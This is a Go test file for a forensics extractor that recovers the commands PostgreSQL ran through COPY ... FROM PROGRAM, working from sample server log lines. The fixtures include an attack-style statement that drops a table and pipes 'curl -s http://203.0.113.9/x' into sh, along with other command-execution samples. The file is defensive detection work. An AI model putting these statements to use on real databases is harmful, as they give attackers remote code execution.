package postgresql

import (
	"fmt"
	"strings"
	"testing"

	"icecore/forensics/artifact/artifacttest"
)

// TestPrograms: programs that statements run, in the forms in which the log has them; other
// lines, also those that speak of programs, give nothing.
func TestPrograms(t *testing.T) {
	const head = "2026-11-06 02:10:04.988 UTC [6120] postgres@shop "
	for _, tt := range []struct{ name, line, want string }{
		{"a statement with an error", head + "STATEMENT:  DROP TABLE IF EXISTS x;COPY x FROM PROGRAM 'curl -s http://203.0.113.9/x | sh';", "2026-11-06T02:10:04.988Z postgres curl -s http://203.0.113.9/x | sh"},
		{"log_statement", head + "LOG:  statement: copy x to program 'cat >/tmp/a'", "2026-11-06T02:10:04.988Z postgres cat >/tmp/a"},
		{"quotes within", head + "STATEMENT:  COPY x FROM PROGRAM 'sh -c ''id'''", "2026-11-06T02:10:04.988Z postgres sh -c 'id'"},
		{"an escape string", head + `STATEMENT:  COPY x FROM PROGRAM E'echo a\nid'`, "2026-11-06T02:10:04.988Z postgres echo a\nid"},
		{"a zone by numbers", "2026-11-06 02:10:04 +02 [6120] postgres@shop STATEMENT:  COPY x FROM PROGRAM 'id'", "2026-11-06T00:10:04Z postgres id"},
		{"no prefix", "STATEMENT:  COPY x FROM PROGRAM 'id'", "none  id"},
		{"a failed program", head + `ERROR:  program "curl x" failed`, ""},
		{"COPY of a file", head + "STATEMENT:  COPY x FROM '/srv/program.csv'", ""},
		{"a table of programs", head + "STATEMENT:  SELECT name FROM program WHERE x = 'y'", ""},
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/var/log/postgresql/postgresql-15-main.log", Text: tt.line + "\n"})
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
		got := ""
		for _, r := range records {
			at := "none"
			if s := r.Time("typed"); !s.IsZero() {
				at = s.Format("2006-01-02T15:04:05.999Z07:00")
			}
			got += fmt.Sprint(at, " ", r.Get("user"), " ", r.Get("command"))
		}
		if got != tt.want {
			t.Errorf("%s: %q, want %q", tt.name, got, tt.want)
		}
	}
	if _, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{
		Path: "/var/log/postgresql/a.log", Text: strings.Repeat("STATEMENT:  COPY x FROM PROGRAM 'id'\n", maxCommands+1),
	}); err == nil {
		t.Error("no word of what was left out")
	}
}

func FuzzLog(f *testing.F) {
	f.Add("2026-11-06 02:10:04 +02 [6120] postgres@shop STATEMENT:  COPY x FROM PROGRAM E'a\\'b'\n")
	f.Fuzz(func(t *testing.T, s string) {
		_, _ = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/var/log/postgresql/a.log", Text: s})
	})
}
